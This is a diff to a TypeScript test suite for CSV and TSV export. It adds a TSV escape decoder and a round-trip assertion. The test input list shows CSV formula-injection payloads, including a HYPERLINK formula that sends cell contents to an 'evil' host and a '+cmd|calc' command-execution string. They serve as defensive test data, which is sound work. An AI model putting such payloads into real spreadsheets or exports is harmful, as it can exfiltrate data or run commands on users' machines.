@@ -28,6 +28,12 @@ function parseCsv(text: string): InputRow[] {
 
 const C0_C1 = /[\u0000-\u001f\u007f-\u009f]/;
 
+/** A tsv cell read back as docs/scripting.md says to: `\\`, `\t`, `\n`, `\r`, `\xHH` and `\uHHHH` each one character. */
+function decodeTsvCell(cell: string): string {
+  const named: Record<string, string> = { '\\': '\\', t: '\t', n: '\n', r: '\r' };
+  return cell.replace(/\\(\\|t|n|r|x[0-9a-f]{2}|u[0-9a-f]{4})/g, (_, escape: string) => named[escape] ?? String.fromCharCode(parseInt(escape.slice(1), 16)));
+}
+
 describe('CSV and TSV cells a spreadsheet would run', () => {
   const names = ['=HYPERLINK("http://evil/"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(A1)', '\tlead tab', '\rlead cr', "'=already quoted", 'plain', '-12.5', '+3', '1e5'];
 
@@ -87,6 +93,8 @@ describe('random control characters through every format (property)', () => {
           expect(line.split('\t')).toHaveLength(2);
           expect(line.replace(/\t/g, '')).not.toMatch(C0_C1);
         }
+        // A backslash of the value is written \\: every escape reads back as the one character it stands for.
+        expect(lines.map((line) => decodeTsvCell(line.split('\t')[1]!))).toEqual(names);
 
         const csv = (await render(view, 'csv')).out;
         // RFC 4180, exact: control characters only inside quoted fields, and every name reads back as it was.
